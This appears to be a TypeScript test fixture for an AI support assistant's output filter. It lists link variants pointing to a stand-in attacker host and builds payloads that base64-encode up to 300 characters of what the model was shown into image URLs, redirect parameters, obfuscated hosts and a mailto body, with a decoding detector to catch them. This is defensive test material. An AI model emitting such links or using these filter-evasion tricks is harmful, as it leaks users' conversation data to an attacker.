export const evilHost = 'evil.example'

export const evilLinks = [
  `https://${evilHost}/login`,
  `http://help.example.com@${evilHost}/`,
  `[our help](https://${evilHost}/)`,
  `//${evilHost}/x`,
  `<a href="https://${evilHost}">here</a>`,
  `https://help.example.com.${evilHost}/returns`,
  `HTTPS://${evilHost.toUpperCase()}`,
  `www.${evilHost}`,
  'EVIL.COM',
  'evil.support',
  'https:evil.tk',
  'https:/evil.tk',
  '[our help](/\\evil.tk)',
  'evil․com',
] as const

/** Links that carry off what the model was shown: in a picture's address, or by a site of the company's that leads on. */
export const smuggled = (seen: string): readonly string[] => {
  const load = Buffer.from(seen.slice(0, 300)).toString('base64url')
  return [
    `![a lamp](https://${evilHost}/p.png?d=${load})`,
    `![a lamp](//${evilHost}/p.png?d=${load})`,
    `https://help.example.com/returns?next=${encodeURIComponent(`https://${evilHost}/?d=${load}`)}`,
    `https://help.example.com/returns?next=${encodeURIComponent(encodeURIComponent(`//${evilHost}/${load}`))}`,
    `https://help.example.com/returns?next=//evil.tk/${load}`,
    `https://help.example.com/returns?next=evil.tk&d=${load}`,
    `https://help.example.com/returns#https://evil.tk/${load}`,
    `https://help.example.com/${load}@${evilHost}`,
    `https://help.example.com%2F@${evilHost}/${load}`,
    `https://help.example.com\\@${evilHost}/${load}`,
    `<img src="https://${evilHost}/p.png?d=${load}">`,
    `[![x](https://${evilHost}/${load})](https://help.example.com/returns)`,
    `https://%65vil.example/${load}`,
    `mailto:a@${evilHost}?body=${load}`,
  ]
}

const decoded = (text: string): string => {
  try {
    return decodeURIComponent(text)
  } catch {
    return text.replace(/%([0-7][\da-f])/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
  }
}

/** Whether a text leads to the attacker's, however it is written. */
export const leadsAway = (text: string): boolean =>
  /evil\.(?:example|com|tk|support)/i.test(
    decoded(decoded(decoded(text)))
      .normalize('NFKC')
      .replace(/\p{Cf}/gu, ''),
  )
